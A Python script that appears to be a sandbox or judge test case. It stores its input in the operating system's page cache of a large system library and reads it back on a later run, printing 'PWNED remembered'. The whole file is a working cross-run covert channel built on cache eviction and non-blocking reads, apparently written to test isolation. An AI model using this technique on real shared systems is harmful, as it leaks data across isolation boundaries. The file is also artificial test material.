# Tries: to write its input into the system's cache of files, and to read there what an earlier run was given.
# Must get: AC, for it answers honestly afterwards.
import os

STEP, MARK, BYTES = 65536, 0b1011001110001111, 24
FOLDERS = ("/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu", "/usr/lib64", "/usr/lib", "/usr/bin")
FILES = [entry for folder in FOLDERS if os.path.isdir(folder) for entry in os.scandir(folder) if entry.is_file()]
file = os.open(max(FILES, key=lambda entry: entry.stat().st_size).path, os.O_RDONLY)
os.posix_fadvise(file, 0, 0, os.POSIX_FADV_RANDOM)


def cached(bit):
    try:
        return os.preadv(file, [bytearray(1)], (bit + 4) * STEP, os.RWF_NOWAIT) == 1
    except OSError:
        return False


def word(start, bits):
    return sum(cached(start + bit) << bit for bit in range(bits))


data = os.pread(0, BYTES, 0)
if word(0, 16) == MARK:
    print("PWNED remembered", bytes(word(16 + 8 * n, 8) for n in range(BYTES)))
os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
value = int.from_bytes(data.ljust(BYTES), "little") << 16 | MARK
for bit in range(16 + 8 * BYTES):
    if value >> bit & 1:
        os.pread(file, 1, (bit + 4) * STEP)
# @ANSWER@
